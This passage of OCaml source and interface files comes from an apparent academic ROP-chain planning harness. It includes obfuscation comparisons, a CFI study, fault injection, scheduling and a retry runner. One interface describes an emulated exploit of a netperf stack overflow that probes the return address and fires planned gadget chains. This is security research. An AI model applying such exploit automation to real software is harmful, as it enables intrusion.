  { entry; config_name; image; analysis }

(* The per-goal planner settings used across the comparison experiments:
   bounded so a full table run finishes in minutes, generous enough that
   the search samples the chain space meaningfully. *)
let gp_planner_config =
  { Gp_core.Planner.max_plans = 10000;
    node_budget = 2500;
    time_budget = 6.;
    branch_cap = 10;
    goal_cap = 6;
    max_steps = 14 }

let goals = Gp_core.Goal.default_goals

(* Run Gadget-Planner over one built image for one goal.  [budget]
   clamps the planner/validation deadline below the config's own
   time_budget — the survey-wide wall-clock bound. *)
let run_gp ?(planner_config = gp_planner_config) ?budget (b : built) goal =
  Gp_core.Api.run_with_analysis ~planner_config ?budget b.analysis goal

(* Canonical text of a gadget, used to decide whether a chain uses any
   gadget that did not exist before obfuscation ("new" chains). *)
let gadget_text (g : Gp_core.Gadget.t) =
  String.concat "; " (List.map Gp_x86.Insn.to_string g.Gp_core.Gadget.insns)

let pool_texts (a : Gp_core.Api.analysis) =
  let tbl = Hashtbl.create 256 in
  List.iter (fun g -> Hashtbl.replace tbl (gadget_text g) ()) a.Gp_core.Api.gadgets;
  tbl

(* Does the chain use at least one gadget absent from [baseline_texts]? *)
let chain_is_new baseline_texts (c : Gp_core.Payload.chain) =
  List.exists
    (fun (s : Gp_core.Plan.step) ->
      not (Hashtbl.mem baseline_texts (gadget_text s.Gp_core.Plan.gadget)))
    c.Gp_core.Payload.c_steps

(* Distinct gadgets used across a chain list. *)
let used_gadgets (chains : Gp_core.Payload.chain list) =
  let tbl = Hashtbl.create 64 in
  List.iter
    (fun (c : Gp_core.Payload.chain) ->
      List.iter
        (fun (s : Gp_core.Plan.step) ->
          Hashtbl.replace tbl s.Gp_core.Plan.gadget.Gp_core.Gadget.addr ())
        c.Gp_core.Payload.c_steps)
    chains;
  Hashtbl.length tbl
