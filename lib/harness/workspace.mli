(** Shared compile+analyze plumbing for the experiments: one build per
    (program, obfuscation config) gives every tool the same image and the
    same harvested pool, so comparisons measure strategy, not extraction
    variance. *)

type built = {
  entry : Gp_corpus.Programs.entry;
  config_name : string;
  image : Gp_util.Image.t;
  analysis : Gp_core.Api.analysis;
}

val obf_configs : (string * Gp_obf.Obf.config) list
(** original / llvm-obf / tigress. *)

val build :
  ?config_name:string -> ?cfg:Gp_obf.Obf.config -> ?budget:Gp_core.Budget.t ->
  ?jobs:int -> ?cache_dir:string -> Gp_corpus.Programs.entry -> built
(** [budget] bounds the analyze stages (extract/subsume); [jobs] fans
    them out over that many domains (deterministic, see Api);
    [cache_dir] enables the on-disk incremental store (see
    [Api.analyze]). *)

val gp_planner_config : Gp_core.Planner.config
(** The per-goal budget used across the comparison experiments. *)

val goals : Gp_core.Goal.t list

val run_gp :
  ?planner_config:Gp_core.Planner.config -> ?budget:Gp_core.Budget.t ->
  built -> Gp_core.Goal.t -> Gp_core.Api.outcome
(** [budget] clamps the search below the config's own time budget. *)

val gadget_text : Gp_core.Gadget.t -> string
(** Canonical instruction text, for original-vs-obfuscated comparison. *)

val pool_texts : Gp_core.Api.analysis -> (string, unit) Hashtbl.t

val chain_is_new : (string, unit) Hashtbl.t -> Gp_core.Payload.chain -> bool
(** Does the chain use a gadget absent from the baseline pool?  (The
    paper's parenthesized "new by obfuscation" numbers.) *)

val used_gadgets : Gp_core.Payload.chain list -> int
(** Distinct gadget addresses across the chains. *)
