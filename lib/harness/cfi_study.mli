(** CFI-infeasibility study (supports the threat model, paper §III-A):
    classic entry-only forward-edge CFI applied to BENIGN runs.  Original
    programs make no indirect transfers; obfuscated programs dispatch
    through jump tables whose targets are basic blocks — every transfer
    is a false positive, so a deployed CFI monitor would kill the
    legitimate program. *)

type row = {
  cfi_program : string;
  cfi_config : string;
  cfi_transfers : int;      (** indirect transfers executed *)
  cfi_violations : int;     (** flagged by the entry-only policy *)
  cfi_completed : bool;     (** benign run finished within fuel — a
                                timed-out run is reported as such, not
                                as a clean measurement *)
}

val run_one :
  ?budget:Gp_core.Budget.t ->
  Gp_corpus.Programs.entry -> string * Gp_obf.Obf.config -> row
(** [budget] converts remaining wall clock into emulator fuel (capped at
    the historical 40M steps). *)

val study :
  ?entries:Gp_corpus.Programs.entry list -> ?budget:Gp_core.Budget.t ->
  unit -> string * row list
(** Rendered table + rows for the default program subset under the three
    standard configurations. *)
