(* Deterministic fault injection (DESIGN.md "Failure model & budgets").

   The resilience claims — one poisoned gadget never kills a harvest, a
   divergent solver only degrades the pool, a sweep always terminates
   inside its budget — are only testable if faults can be produced on
   demand.  This module drives the chaos hooks the low-level stages
   expose ([Extract.chaos_decode], [Solver.chaos_unknown],
   [Machine.chaos_fuse]) plus the pluggable [Budget] clock, all from
   seeded splitmix64 streams, so a fault schedule is reproducible from
   one integer.

   Rate semantics (chosen to match each hook's natural granularity):
   - [decode_rate]   per harvest START OFFSET: that window is treated as
     undecodable and quarantined;
   - [solver_rate]   per solver QUERY: answered Unknown unexamined;
   - [mem_rate]      per emulator RUN: a fuse is armed that trips a
     memory fault partway through the execution;
   - [clock_skip_rate] per CLOCK READ: time jumps forward by
     [clock_skip_s] seconds (NTP-step / scheduler-stall simulation —
     exercises deadline handling without sleeping).

   Parallelism: the decode and solver hooks fire from worker domains,
   and their call ORDER depends on scheduling.  Their schedules are
   therefore keyed, not streamed — the decision for a start address or
   a solver query is a pure function of (seed, key), so the injected
   fault SET is identical under any job count and any interleaving
   (test_par asserts nothing is dropped or double-counted at jobs=4).
   Payload validation now also runs on worker domains (the goal
   portfolio), so the emulator fuse gets a keyed schedule too — keyed
   on the CHAIN being validated ([Machine.chaos_fuse_keyed], fed by
   [Payload.validate_run]) — while the streamed [Machine.chaos_fuse]
   stays installed for the sequential direct-run sites (netperf, CFI,
   compile checks).  Only the clock remains stream-only; it is read
   from the orchestrating domain. *)

type config = {
  seed : int;
  decode_rate : float;
  solver_rate : float;
  mem_rate : float;
  clock_skip_rate : float;
  clock_skip_s : float;
  frame_rate : float;
}

let disabled =
  { seed = 0; decode_rate = 0.; solver_rate = 0.; mem_rate = 0.;
    clock_skip_rate = 0.; clock_skip_s = 0.; frame_rate = 0. }

let uniform ?(seed = 0xfa17) rate =
  { disabled with seed; decode_rate = rate; solver_rate = rate;
    mem_rate = rate }

(* Order-independent Bernoulli: one fresh splitmix64 draw keyed on
   (seed, key).  [Hashtbl.hash] is deterministic on immutable data, so
   the decision depends on nothing but the key's structure. *)
let keyed_flip seed key rate =
  Gp_util.Rng.flip (Gp_util.Rng.create (seed lxor Hashtbl.hash key)) rate

(* Deterministic on-disk corruption: flip bits in an existing file, one
   keyed Bernoulli decision per byte — the damage pattern is a pure
   function of (seed, byte index), independent of read order, matching
   the keyed in-process hooks above.  Exercises the incremental store's
   checksum rejection path (DESIGN.md §11): a run pointed at the damaged
   file must demote to cold, never crash or silently use bad bytes.
   Returns how many bytes were flipped (possibly 0 at tiny rates; tests
   should retry with a denser rate rather than assume). *)
let corrupt_file ?(seed = 0xc0de) ~rate path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let b = Bytes.create n in
  really_input ic b 0 n;
  close_in ic;
  let flipped = ref 0 in
  for i = 0 to n - 1 do
    if keyed_flip seed i rate then begin
      let r = Gp_util.Rng.create ((seed lxor 0x55) lxor i) in
      let mask = 1 + Gp_util.Rng.int r 255 in
      Bytes.set_uint8 b i (Bytes.get_uint8 b i lxor mask);
      incr flipped
    end
  done;
  let oc = open_out_bin path in
  output_bytes oc b;
  close_out oc;
  !flipped

(* Run [f] with the fault schedule installed, restoring every hook on
   the way out (exception or not) — injection must never leak into the
   next experiment. *)
let with_faults (cfg : config) (f : unit -> 'a) : 'a =
  (* independent seeds/streams per fault class, so e.g. raising the
     decode rate does not shift which solver queries fail *)
  let r_mem = Gp_util.Rng.create (cfg.seed lxor 0x33) in
  let r_clock = Gp_util.Rng.create (cfg.seed lxor 0x44) in
  let saved_decode = !Gp_core.Extract.chaos_decode in
  let saved_solver = !Gp_smt.Solver.chaos_unknown in
  let saved_fuse = !Gp_emu.Machine.chaos_fuse in
  let saved_fuse_keyed = !Gp_emu.Machine.chaos_fuse_keyed in
  let saved_wire = !Gp_util.Frame.chaos_wire in
  if cfg.decode_rate > 0. then
    Gp_core.Extract.chaos_decode :=
      (fun addr -> keyed_flip (cfg.seed lxor 0x11) addr cfg.decode_rate);
  if cfg.solver_rate > 0. then
    Gp_smt.Solver.chaos_unknown :=
      (fun formulas ->
        keyed_flip (cfg.seed lxor 0x22) formulas cfg.solver_rate);
  if cfg.mem_rate > 0. then begin
    Gp_emu.Machine.chaos_fuse :=
      (fun () ->
        if Gp_util.Rng.flip r_mem cfg.mem_rate then
          Some (Gp_util.Rng.int r_mem 100_000)
        else None);
    (* keyed twin for validation runs: a fresh stream per key, so both
       the fire decision and the armed step count are pure functions of
       (seed, chain) *)
    Gp_emu.Machine.chaos_fuse_keyed :=
      (fun key ->
        let r = Gp_util.Rng.create ((cfg.seed lxor 0x33) lxor key) in
        if Gp_util.Rng.flip r cfg.mem_rate then
          Some (Gp_util.Rng.int r 100_000)
        else None)
  end;
  if cfg.frame_rate > 0. then
    (* keyed on the frame PAYLOAD, so the damaged-request set is a pure
       function of (seed, request bytes) — independent of send order
       across connections.  The fault MODE is a second independent draw
       from the same key, so all four wire faults appear at high
       rates. *)
    Gp_util.Frame.chaos_wire :=
      (fun payload ->
        if keyed_flip (cfg.seed lxor 0x66) payload cfg.frame_rate then
          let r =
            Gp_util.Rng.create ((cfg.seed lxor 0x77) lxor Hashtbl.hash payload)
          in
          Some
            (match Gp_util.Rng.int r 4 with
            | 0 -> Gp_util.Frame.Torn_len
            | 1 -> Gp_util.Frame.Torn_body
            | 2 -> Gp_util.Frame.Flip_sum
            | _ -> Gp_util.Frame.Hangup)
        else None);
  if cfg.clock_skip_rate > 0. then begin
    let skew = ref 0. in
    Gp_core.Budget.set_clock (fun () ->
        if Gp_util.Rng.flip r_clock cfg.clock_skip_rate then
          skew := !skew +. cfg.clock_skip_s;
        Unix.gettimeofday () +. !skew)
  end;
  let finally () =
    Gp_core.Extract.chaos_decode := saved_decode;
    Gp_smt.Solver.chaos_unknown := saved_solver;
    Gp_emu.Machine.chaos_fuse := saved_fuse;
    Gp_emu.Machine.chaos_fuse_keyed := saved_fuse_keyed;
    Gp_util.Frame.chaos_wire := saved_wire;
    if cfg.clock_skip_rate > 0. then Gp_core.Budget.reset_clock ()
  in
  Fun.protect ~finally f

(* ----- crash-point injection (DESIGN.md §13) ----- *)

(* Simulated process death.  [Store.crash_point] names the durability
   points ("wal-append", "save-rename", "mid-stage"); installing a
   raising hook at one of them models the process dying with the
   channel buffers unflushed — callers must then tear state down with
   the [abandon] entry points (which drop fds WITHOUT flushing, unlike
   a normal close) so the on-disk bytes are exactly what a real kill
   would have left.  Nothing in the tree catches [Crashed] except the
   experiment driving the injection. *)
exception Crashed of string

(* Run [f] with a crash armed at the [hits]-th firing of [point]
   (1-based; durability points fire many times per sweep, so the index
   selects WHERE in the run the process dies).  Returns [Error point]
   if the crash fired, [Ok v] if the run outlived the fuse.  The
   previous hook is chained and always restored. *)
let with_crash_at ?(hits = 1) ~point f =
  let saved = !Gp_util.Store.crash_hook in
  (* crash points fire from scheduler worker domains too ("mid-stage"
     under Sched runs concurrently), so the hit counter must be atomic:
     with a plain ref, racing increments could skip the armed count and
     the fuse would never blow *)
  let count = Atomic.make 0 in
  Gp_util.Store.crash_hook :=
    (fun p ->
      saved p;
      if p = point && Atomic.fetch_and_add count 1 + 1 = hits then
        raise (Crashed p));
  Fun.protect
    ~finally:(fun () -> Gp_util.Store.crash_hook := saved)
    (fun () ->
      match f () with v -> Ok v | exception Crashed p -> Error p)

(* Torn-write simulator: keep only the first [k] bytes of [path], as
   if the process died with the tail not yet on disk.  The complement
   of [corrupt_file]: truncation instead of bit flips, for the WAL's
   valid-prefix recovery path. *)
let truncate_file ~k path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let keep = min k n in
  let b =
    Fun.protect
      ~finally:(fun () -> close_in_noerr ic)
      (fun () -> really_input_string ic keep)
  in
  let oc = open_out_bin path in
  output_string oc b;
  close_out oc
