(** Corpus-level pipelined scheduler (DESIGN.md §14).

    Schedules a survey sweep as a task DAG — nodes are (cell x stage)
    units, edges the stage order within a cell — on one shared domain
    pool with per-worker deques and work stealing, so stage 3 of cell A
    overlaps stage 1 of cell B instead of fencing at each stage
    boundary.  Results are bit-identical to the sequential
    {!Runner.run_corpus} loop at any job count; the determinism
    argument (per-cell id sources, pure compiles, first-write-wins
    shared tables) is DESIGN.md §14. *)

open Gp_core

(** Work-stealing deque: the owner pushes and pops at the bottom
    (newest first), thieves take from the top (oldest first).  Exposed
    for the property-test tier. *)
module Deque : sig
  type 'a t

  val create : unit -> 'a t
  val push : 'a t -> 'a -> unit

  val pop : 'a t -> 'a option
  (** Owner end: most recently pushed (LIFO). *)

  val steal : 'a t -> 'a option
  (** Thief end: least recently pushed (FIFO). *)

  val length : 'a t -> int
end

(** Dependency-counted task graph executed by a shared worker pool. *)
module Dag : sig
  type t

  val create : unit -> t

  val node : t -> ?after:int list -> ?label:string -> (unit -> unit) -> int
  (** Add a node depending on the (existing — the graph is acyclic by
      construction) nodes in [after]; returns its id.  May be called
      from inside a running node to grow the graph dynamically: a node
      created ready during a run lands on the creating worker's own
      deque, where LIFO order runs it next unless stolen. *)

  val node_count : t -> int
  val label : t -> int -> string

  val run : ?jobs:int -> t -> unit
  (** Execute until every node is done.  [jobs] workers (the calling
      domain is one; the count is deliberately not clamped to the core
      count — oversubscribed workers are timesliced and must produce
      identical results).  A node never runs before all its
      predecessors completed.  If a node raises, the pool stops
      claiming work, every domain is joined, and the exception of the
      lowest-numbered failed node is re-raised — [Faultsim.Crashed]
      escapes here just as it does from a sequential sweep. *)
end

(** Persistent work-stealing pool for the analysis daemon (DESIGN.md
    §15): the [Dag] deque/steal/backoff machinery without the batch
    exit — workers park until {!Service.stop}.  The caller is not a
    worker (the daemon's main domain stays in its accept loop).

    Failure discipline: request handlers own their errors, so any
    exception reaching a worker is fatal to the process
    ([Faultsim.Crashed], handler bugs).  The first is kept, the pool
    stops claiming work, and {!Service.check}/{!Service.stop} re-raise
    it on the main loop — where journal teardown lives. *)
module Service : sig
  type t

  val start : jobs:int -> t

  val submit : t -> (unit -> unit) -> unit
  (** Queue a task.  From a worker domain it lands on that worker's own
      deque (owner-LIFO pipelines a request's stages, thieves take
      other requests' opening stages); from other domains tasks spread
      round-robin. *)

  val pending : t -> int
  (** Tasks submitted but not yet finished. *)

  val jobs : t -> int

  val check : t -> unit
  (** Re-raise the pool's fatal exception, if one happened. *)

  val stop : t -> unit
  (** Stop accepting park-forever semantics: queued work still drains
      (in-flight analyses are not dropped), every domain is joined,
      then any fatal exception is re-raised. *)
end

(** A cell's work as a chain of resumable steps.  Each [Next (stage,
    k)] becomes its own DAG node labeled with [stage]. *)
type 'a step =
  | Finished of ('a, Fail.t) result
  | Next of string * (unit -> 'a step)

val run_cells :
  ?policy:Runner.retry_policy ->
  ?manifest:Runner.Manifest.t ->
  ?resume:bool ->
  encode:('a -> string) ->
  decode:(string -> 'a) ->
  jobs:int ->
  (string * (attempt:int -> Budget.t -> 'a step)) list ->
  'a Runner.cell_outcome list * Runner.report
(** {!Runner.run_corpus} semantics on the DAG: completed cells replay
    from the manifest before anything is scheduled; each computed
    cell's step chain runs under a fresh per-attempt watchdog budget
    (created when the attempt starts executing, not when it was
    scheduled); [Budget.Exhausted] anywhere in the chain is transient;
    transient failures retry from the cell's FIRST stage with the same
    deterministic backoff schedule; a finished cell is recorded in the
    manifest and followed by an [Incr] journal checkpoint, serialized
    under one commit lock.  The outcome list is in input cell order,
    and payloads are bit-identical to [run_corpus] at any [jobs]. *)
