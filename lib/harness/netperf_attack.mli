(** The netperf case study (paper §VI-C, Fig. 8) end to end: PROBE the
    break_args overflow with a marker pattern to locate the saved return
    address, PLAN against the probed layout, and FIRE each payload
    through the option block, counting only chains the emulator confirms
    from program entry to the goal syscall. *)

type probe = {
  filler_words : int;     (** words copied before the return-address cell *)
  ret_cell : int64;       (** absolute address of the smashed cell *)
}

val probe : ?fuel:int -> Gp_util.Image.t -> probe option
(** Cyclic-pattern probe; [None] when the overflow is unreachable. *)

type result = {
  probe : probe;
  chains : Gp_core.Payload.chain list;   (** end-to-end confirmed *)
  attempted : int;                       (** chains the planner offered *)
  fire_timeouts : int;                   (** deliveries that ran out of
                                             fuel — budget starvation,
                                             not refuted chains *)
}

val fire_run :
  ?fuel:int -> Gp_util.Image.t -> probe -> Gp_core.Payload.chain ->
  Gp_emu.Machine.outcome
(** Deliver one chain through the vulnerability; the raw outcome keeps
    [Timeout] distinguishable from a refuting [Fault]/[Exited]. *)

val fire : ?fuel:int -> Gp_util.Image.t -> probe -> Gp_core.Payload.chain -> bool

val run :
  ?planner_config:Gp_core.Planner.config ->
  ?goal:Gp_core.Goal.t ->
  ?budget:Gp_core.Budget.t ->
  Workspace.built ->
  result option
(** The full scenario (restores the default payload layout afterwards).
    [budget] clamps the planning stage and scales delivery fuel. *)
