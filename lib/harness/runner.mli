(** Supervised corpus runner (DESIGN.md §13).

    Per-cell watchdog budgets, transient/permanent failure
    classification through the {!Gp_core.Fail} taxonomy, deterministic
    retry with exponential backoff + jitter, and a WAL-backed
    checkpoint manifest so an interrupted sweep resumes bit-identical
    to an uninterrupted one.  [Faultsim.Crashed] is never caught here:
    simulated process death unwinds the whole sweep. *)

open Gp_core

type retry_policy = {
  max_attempts : int;   (** total attempts per cell, >= 1 *)
  base_delay_s : float; (** backoff after the first failed attempt *)
  max_delay_s : float;  (** backoff cap *)
  jitter : float;       (** +/- fraction of the delay, in [0, 1) *)
  seed : int;           (** keys the deterministic jitter stream *)
  attempt_seconds : float option; (** watchdog deadline per attempt *)
}

val default_policy : retry_policy

val sleep_hook : (float -> unit) ref
(** Backoff sleeps go through this (default [Unix.sleepf]); tests
    install a recorder instead of sleeping. *)

val backoff_delay : retry_policy -> key:string -> attempt:int -> float
(** Pure function of (policy, cell key, 1-based attempt): the same
    failure sleeps the same schedule in every run. *)

val classify : Fail.t -> [ `Transient | `Permanent ]
(** [`Transient] iff {!Fail.retryable}. *)

val run_cell :
  ?policy:retry_policy -> key:string ->
  (attempt:int -> Budget.t -> ('a, Fail.t) result) ->
  ('a, Fail.t) result * int
(** Run one cell under the policy: fresh watchdog budget per attempt,
    transient failures retried with backoff, permanent ones returned
    as-is.  An uncaught [Budget.Exhausted] counts as transient.
    Returns the outcome and the retries consumed. *)

(** Checkpoint journal of completed cells: one fsync'd WAL record per
    cell (key, payload digest, payload).  Torn tails are truncated on
    open; records failing their digest are dropped (recomputed).  A
    second writer demotes to read-only. *)
module Manifest : sig
  type entry = { e_digest : int64; e_payload : string }
  type t

  val wal_path : dir:string -> string
  val open_ : dir:string -> t
  val read_only : t -> string option
  val replayed : t -> int
  val torn_bytes : t -> int
  val find : t -> string -> entry option
  val completed : t -> int
  val record : t -> key:string -> payload:string -> unit
  val close : t -> unit

  val abandon : t -> unit
  (** Drop fds without flushing (simulated crash; test harness only). *)
end

type 'a cell_outcome = {
  c_key : string;
  c_result : ('a, Fail.t) result;
  c_retries : int;
  c_resumed : bool;
}

type report = {
  r_total : int;
  r_computed : int;
  r_resumed : int;
  r_retries : int;
  r_failed : (string * Fail.t) list;
}

val run_corpus :
  ?policy:retry_policy -> ?manifest:Manifest.t -> ?resume:bool ->
  encode:('a -> string) -> decode:(string -> 'a) ->
  (string * (attempt:int -> Budget.t -> ('a, Fail.t) result)) list ->
  'a cell_outcome list * report
(** Run cells in order (parallelism lives inside a cell via Api's
    [jobs]).  With [resume] and a manifest, completed cells replay
    their recorded payload through [decode]; computed cells are
    recorded through [encode] and followed by an [Incr] journal
    checkpoint when one is open. *)
