(* Supervised corpus runner (DESIGN.md §13).

   Survey sweeps are long products of (program x obfuscation x goal)
   cells; at that scale the interesting failure modes are operational,
   not semantic: a cell starves under a shared-machine stall, a
   process dies mid-sweep, a previous run left half its work behind.
   This module supervises per-cell execution:

     - every attempt runs under its own watchdog [Budget] deadline;
     - failures are split transient/permanent through the [Fail]
       taxonomy ([Fail.retryable]), and transient ones are retried
       with exponential backoff + jitter whose schedule is a pure
       function of (policy seed, cell key, attempt) — reproducible
       like everything else in the tree;
     - completed cells are recorded in a WAL-backed manifest (cell
       key, payload digest, payload), fsync'd per cell, so a killed
       sweep resumes by replaying recorded results instead of
       recomputing them.  The resume contract is bit-identical output:
       payloads carry only cache-temperature-independent data, so a
       replayed cell equals a recomputed one byte for byte.

   The retry ladder COMPOSES with [Api.run]'s degradation ladder: a
   retried attempt re-enters the full ladder with a fresh watchdog,
   so "retry" means "try the whole degradation cascade again", not
   "jump to the loosest rung".

   [Faultsim.Crashed] is deliberately NOT caught anywhere here: it
   simulates process death and must unwind the whole sweep. *)

open Gp_core

(* ----- retry policy ----- *)

type retry_policy = {
  max_attempts : int;   (* total attempts per cell, >= 1 *)
  base_delay_s : float; (* backoff after the first failed attempt *)
  max_delay_s : float;  (* backoff cap *)
  jitter : float;       (* +/- fraction of the delay, in [0, 1) *)
  seed : int;           (* keys the jitter stream *)
  attempt_seconds : float option; (* watchdog deadline per attempt *)
}

let default_policy =
  { max_attempts = 3;
    base_delay_s = 0.05;
    max_delay_s = 2.0;
    jitter = 0.25;
    seed = 0x5e7;
    attempt_seconds = None }

(* Pluggable so tests assert on computed delays instead of sleeping
   through them. *)
let sleep_hook : (float -> unit) ref =
  ref (fun s -> if s > 0. then Unix.sleepf s)

(* Deterministic: doubled base capped at [max_delay_s], then jittered
   by a stream keyed on (seed, key, attempt).  No global RNG state —
   the same cell failing the same way sleeps the same schedule in
   every run and at every job count. *)
let backoff_delay policy ~key ~attempt =
  let base = policy.base_delay_s *. (2. ** float_of_int (attempt - 1)) in
  let capped = Float.min base policy.max_delay_s in
  if policy.jitter <= 0. then capped
  else begin
    let rng =
      Gp_util.Rng.create (policy.seed lxor Hashtbl.hash (key, attempt))
    in
    let u = float_of_int (Gp_util.Rng.int rng 10_000) /. 10_000. in
    capped *. (1. -. policy.jitter +. (2. *. policy.jitter *. u))
  end

let classify f = if Fail.retryable f then `Transient else `Permanent

(* ----- single supervised cell ----- *)

(* Run one cell under the policy.  [f] gets the 1-based attempt number
   and a fresh watchdog budget each time; an uncaught
   [Budget.Exhausted] from inside counts as a transient failure (the
   watchdog fired past a stage boundary).  Returns the outcome plus
   the number of retries consumed (attempts - 1). *)
let run_cell ?(policy = default_policy) ~key
    (f : attempt:int -> Budget.t -> ('a, Fail.t) result) :
    ('a, Fail.t) result * int =
  let watchdog () =
    match policy.attempt_seconds with
    | Some s -> Budget.create ~label:("cell:" ^ key) ~seconds:s ()
    | None -> Budget.unlimited ~label:("cell:" ^ key) ()
  in
  let rec go attempt =
    let outcome =
      match f ~attempt (watchdog ()) with
      | r -> r
      | exception Budget.Exhausted (label, reason) ->
        Error
          (Fail.Budget_exhausted
             (label, match reason with Budget.Deadline -> `Time | Budget.Fuel -> `Fuel))
    in
    match outcome with
    | Ok v -> (Ok v, attempt - 1)
    | Error fail when Fail.retryable fail && attempt < policy.max_attempts ->
      !sleep_hook (backoff_delay policy ~key ~attempt);
      go (attempt + 1)
    | Error fail -> (Error fail, attempt - 1)
  in
  go 1

(* ----- checkpoint manifest ----- *)

module Manifest = struct
  (* Journal of completed cells, one WAL record per cell under the
     "cells" section: value = digest (fnv64 of payload) + payload.
     The digest is redundant with the WAL's own record checksum but
     survives compaction-free inspection and lets resume verify the
     payload it is about to trust. *)

  let schema_version = 1
  let file_name = "manifest"
  let section = "cells"
  let lock_name = ".manifest.lock"

  type entry = { e_digest : int64; e_payload : string }

  type t = {
    m_dir : string;
    m_tbl : (string, entry) Hashtbl.t;
    m_mutex : Mutex.t;
        (* guards m_tbl AND the append+fsync pair: scheduler workers
           record cells from several domains, and a record must be
           atomic against a concurrent find/completed (DESIGN.md §14) *)
    m_wal : Gp_util.Store.Wal.t option; (* None = read-only *)
    m_lock : Gp_util.Store.lock option;
    m_replayed : int;
    m_torn_bytes : int;
    m_read_only : string option;
  }

  let wal_path ~dir =
    Gp_util.Store.Wal.path_of (Filename.concat dir file_name)

  let encode_entry e =
    let b = Buffer.create (String.length e.e_payload + 16) in
    Gp_util.Store.Bin.i64 b e.e_digest;
    Gp_util.Store.Bin.str b e.e_payload;
    Buffer.contents b

  let decode_entry v =
    let pos = ref 0 in
    let digest = Gp_util.Store.Bin.gi64 v pos in
    let payload = Gp_util.Store.Bin.gstr v pos in
    { e_digest = digest; e_payload = payload }

  (* Open (or create) the manifest in [dir].  Records whose payload
     fails its digest, or that fail to decode, are dropped — the cell
     is recomputed, which is always safe.  A second writer demotes to
     read-only: completed cells still replay, new ones aren't
     recorded. *)
  let open_ ~dir : t =
    Gp_util.Store.mkdir_p dir;
    let tbl = Hashtbl.create 64 in
    let path = wal_path ~dir in
    let lock, read_only =
      match Gp_util.Store.try_lock ~name:lock_name dir with
      | Ok l -> (Some l, None)
      | Error who -> (None, Some who)
    in
    match lock with
    | None ->
      let replayed =
        match Gp_util.Store.Wal.read ~schema:schema_version path with
        | Ok r ->
          List.iter
            (fun (sec, k, v) ->
              if sec = section then
                match decode_entry v with
                | e when Gp_util.Store.fnv64 e.e_payload = e.e_digest ->
                  Hashtbl.replace tbl k e
                | _ -> ()
                | exception Gp_util.Store.Bin.Truncated -> ())
            r.Gp_util.Store.Wal.entries;
          Hashtbl.length tbl
        | Error _ -> 0
      in
      { m_dir = dir; m_tbl = tbl; m_mutex = Mutex.create (); m_wal = None;
        m_lock = None; m_replayed = replayed; m_torn_bytes = 0;
        m_read_only = read_only }
    | Some l -> (
      match Gp_util.Store.Wal.open_append ~schema:schema_version path with
      | Error why ->
        (* foreign/stale manifest: discard and start over — losing a
           checkpoint only costs recomputation *)
        (try Sys.remove path with Sys_error _ -> ());
        (match Gp_util.Store.Wal.open_append ~schema:schema_version path with
        | Error why2 ->
          Gp_util.Store.unlock l;
          { m_dir = dir; m_tbl = tbl; m_mutex = Mutex.create ();
            m_wal = None; m_lock = None; m_replayed = 0; m_torn_bytes = 0;
            m_read_only = Some (why ^ "; " ^ why2) }
        | Ok (w, _) ->
          { m_dir = dir; m_tbl = tbl; m_mutex = Mutex.create ();
            m_wal = Some w; m_lock = Some l; m_replayed = 0; m_torn_bytes = 0;
            m_read_only = None })
      | Ok (w, replay) ->
        List.iter
          (fun (sec, k, v) ->
            if sec = section then
              match decode_entry v with
              | e when Gp_util.Store.fnv64 e.e_payload = e.e_digest ->
                Hashtbl.replace tbl k e
              | _ -> ()
              | exception Gp_util.Store.Bin.Truncated -> ())
          replay.Gp_util.Store.Wal.entries;
        { m_dir = dir; m_tbl = tbl; m_mutex = Mutex.create ();
          m_wal = Some w; m_lock = Some l;
          m_replayed = Hashtbl.length tbl;
          m_torn_bytes = replay.Gp_util.Store.Wal.torn_bytes;
          m_read_only = None })

  let read_only t = t.m_read_only
  let replayed t = t.m_replayed
  let torn_bytes t = t.m_torn_bytes
  let find t key =
    Mutex.protect t.m_mutex (fun () -> Hashtbl.find_opt t.m_tbl key)

  let completed t =
    Mutex.protect t.m_mutex (fun () -> Hashtbl.length t.m_tbl)

  (* Record one completed cell: append + fsync, so the checkpoint
     survives the very next instruction being a crash. *)
  let record t ~key ~payload =
    let e = { e_digest = Gp_util.Store.fnv64 payload; e_payload = payload } in
    Mutex.protect t.m_mutex (fun () ->
        Hashtbl.replace t.m_tbl key e;
        match t.m_wal with
        | None -> ()
        | Some w ->
          Gp_util.Store.Wal.append w ~section ~key ~value:(encode_entry e);
          Gp_util.Store.Wal.sync w)

  let close t =
    (match t.m_wal with Some w -> Gp_util.Store.Wal.close w | None -> ());
    match t.m_lock with Some l -> Gp_util.Store.unlock l | None -> ()

  (* Simulated-crash teardown: drop fds without flushing. *)
  let abandon t =
    (match t.m_wal with Some w -> Gp_util.Store.Wal.abandon w | None -> ());
    match t.m_lock with Some l -> Gp_util.Store.unlock l | None -> ()
end

(* ----- corpus sweep ----- *)

type 'a cell_outcome = {
  c_key : string;
  c_result : ('a, Fail.t) result;
  c_retries : int;
  c_resumed : bool;
}

type report = {
  r_total : int;
  r_computed : int;
  r_resumed : int;
  r_retries : int;
  r_failed : (string * Fail.t) list;
}

(* Run every cell in order (parallelism lives INSIDE a cell, via
   Api's [jobs]; cells are sequential so the manifest is an ordered
   checkpoint log).  With [resume] and a manifest, completed cells are
   replayed through [decode] instead of recomputed; computed cells are
   recorded through [encode] and, when an [Incr] journal is open,
   followed by a solver-memo checkpoint so the store WAL and the
   manifest advance together. *)
let run_corpus ?(policy = default_policy) ?manifest ?(resume = false)
    ~(encode : 'a -> string) ~(decode : string -> 'a)
    (cells : (string * (attempt:int -> Budget.t -> ('a, Fail.t) result)) list) :
    'a cell_outcome list * report =
  let computed = ref 0 and resumed = ref 0 and retries = ref 0 in
  let failed = ref [] in
  let outcomes =
    List.map
      (fun (key, f) ->
        let replay =
          if resume then
            match manifest with
            | Some m -> (
              match Manifest.find m key with
              | Some e -> Some e.Manifest.e_payload
              | None -> None)
            | None -> None
          else None
        in
        match replay with
        | Some payload ->
          incr resumed;
          { c_key = key; c_result = Ok (decode payload); c_retries = 0;
            c_resumed = true }
        | None -> (
          let result, r = run_cell ~policy ~key f in
          retries := !retries + r;
          match result with
          | Ok v ->
            incr computed;
            (match manifest with
            | Some m -> Manifest.record m ~key ~payload:(encode v)
            | None -> ());
            if Incr.journaling () then ignore (Incr.journal_checkpoint ());
            { c_key = key; c_result = Ok v; c_retries = r; c_resumed = false }
          | Error fail ->
            failed := (key, fail) :: !failed;
            { c_key = key; c_result = Error fail; c_retries = r;
              c_resumed = false }))
      cells
  in
  ( outcomes,
    { r_total = List.length cells;
      r_computed = !computed;
